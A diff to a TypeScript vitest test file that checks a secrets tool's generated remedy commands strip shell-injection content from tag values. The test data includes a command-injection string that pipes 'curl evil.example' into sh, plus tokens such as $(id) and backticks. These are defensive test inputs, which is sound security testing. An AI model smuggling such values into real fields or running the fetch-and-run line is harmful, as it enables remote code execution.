@@ -1,6 +1,7 @@
 import { expect, test } from "vitest";
+import { rules } from "../../packages/core/src/diagnose/rules/index.ts";
 import { ruleIds } from "../../packages/core/src/model/finding.ts";
-import { rules } from "../../packages/core/src/plan/rules/index.ts";
+import { remedyText } from "../../packages/core/src/notice/remedy-text.ts";
 import { examples } from "./examples.ts";
 import { given, planFor, project, secret } from "./support.ts";
 
@@ -15,7 +16,7 @@ test.each(Object.entries(examples))(
 
 test("there is a rule for every id, but the one that has to read the secret's value", () => {
   const without = ruleIds.filter((id) => !rules.some((rule) => rule.id === id));
-  expect(without).toEqual(["secret-malformed"]);
+  expect(without).toEqual(["grant-unneeded", "secret-malformed"]);
   expect(rules.map((rule) => rule.id)).toEqual(rules.map((rule) => rule.id).sort());
 });
 
@@ -26,7 +27,7 @@ test("a finding never shows the value of a plaintext variable", () => {
 test("a command in a remedy repeats nothing from a tag that a shell would run", () => {
   const tags = { "pullpass/projects": "api '; curl evil.example | sh #" };
   const world = given({ projects: [project("web")], secrets: [secret("registry/hub", { tags })] });
-  expect(planFor(world).findings[0]?.remedy).toMatch(
+  expect(remedyText(planFor(world).findings[0]?.remedy ?? [])).toMatch(
     / --tags '\[\{"Key":"pullpass\/projects","Value":"api curl evil\.example sh web"\}\]'$/,
   );
 });
@@ -36,7 +37,7 @@ test.each(["$(id)x", "x$(id)", "`id`", "x;id", "x|id", "x'", "ü", "x\u202ey", "
   (token) => {
     const tags = { "pullpass/projects": `api  ${token}` };
     const world = given({ projects: [project("web")], secrets: [secret("registry/hub", { tags })] });
-    expect(planFor(world).findings[0]?.remedy).toContain('"Value":"api web"}');
+    expect(remedyText(planFor(world).findings[0]?.remedy ?? [])).toContain('"Value":"api web"}');
   },
 );
 
